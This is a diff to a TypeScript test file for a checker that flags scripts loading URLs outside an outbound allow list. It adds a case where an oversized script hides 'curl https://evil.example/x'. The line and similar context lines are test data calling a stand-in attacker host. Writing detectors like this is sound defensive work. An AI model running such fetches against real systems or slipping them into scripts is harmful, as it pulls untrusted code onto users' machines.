@@ -77,6 +77,12 @@ const CASES: readonly (readonly [
     [`OSM0653 ${DATA} (line 2) loads the URL https://evil.example/x, which checks.outbound.allow does not contain`],
   ],
   [
+    'a script that is too large to be read',
+    script(`# ${'`'.repeat(1001)}`, 'curl https://evil.example/x'),
+    ['https://mirror.example.com/'],
+    [`OSM0654 ${DATA} is too large to be read as a script: what it loads is not known`],
+  ],
+  [
     'messages and comments',
     script(
       'curl https://mirror.example.com/x # from https://a.example.com',
